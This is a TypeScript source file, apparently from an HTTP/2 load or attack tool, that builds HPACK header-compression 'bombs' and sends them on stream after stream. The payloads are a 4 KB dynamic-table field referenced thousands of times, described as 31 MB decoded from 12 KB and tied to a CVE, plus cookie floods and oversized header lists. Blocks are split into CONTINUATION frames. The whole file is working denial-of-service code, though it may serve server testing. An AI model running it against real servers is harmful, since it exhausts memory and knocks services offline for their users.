import { eachSession } from '../each-session.ts';
import { flags, frame, frameTypes, headers } from '../frames.ts';
import { connectBlock, indexed, kept, literal } from '../hpack.ts';
import type { Job, Outcome } from '../job.ts';

/** Header blocks that are larger decoded than sent, or larger than a server should take. */
const bombs: Readonly<Record<string, (authority: string, count: number) => Buffer>> = {
  /** A field of 4 KB in the dynamic table, and `count` references to it: 31 MB from 12 KB (CVE-2026-47774). */
  references: (authority, count) =>
    connectBlock(authority, kept('x', 'y'.repeat(4000)), ...Array.from({ length: count }, () => indexed(62))),
  'cookie crumbs': (authority, count) =>
    connectBlock(authority, ...Array.from({ length: count }, () => literal('cookie', 'a=b'))),
  /** A list of exactly `count` bytes as RFC 9113 section 6.5.2 counts them: 32 more for each field. */
  'header list': (authority, count) => {
    const size = (name: string, value: string) => name.length + value.length + 32;
    const rest = count - size(':method', 'CONNECT') - size(':authority', authority) - size('x', '');
    return connectBlock(authority, literal('x', 'y'.repeat(rest)));
  },
};

export const blockOf = ({ variant = '', authority, count = 0 }: Job): Buffer =>
  bombs[variant]!(authority, count);

/** One frame may hold this much; what is larger goes on in CONTINUATIONs. */
const largest = 16_384;

/** The bomb on one stream after another, until the session ends or the time is over. */
export function headerBomb(job: Job): Promise<Outcome> {
  const block = blockOf(job);
  return eachSession(job, async (session, over) => {
    const most = job.streams ?? Infinity;
    for (let stream = 1; !over() && session.sent < most; stream += 2) {
      const refused = new Promise<void>((resolve) => {
        session.onAnswer = session.onReset = () => resolve();
      });
      session.sent++;
      if (!(await session.send(inFrames(stream, block)))) return;
      await Promise.race([refused, session.closed]);
    }
  });
}

function inFrames(stream: number, block: Buffer): Buffer {
  const frames: Buffer[] = [];
  for (let at = 0; at < block.length; at += largest) {
    const [part, last] = [block.subarray(at, at + largest), at + largest >= block.length];
    const flag = last ? flags.endHeaders : 0;
    frames.push(at === 0 ? headers(stream, part, flag) : frame(frameTypes.continuation, flag, stream, part));
  }
  return Buffer.concat(frames);
}
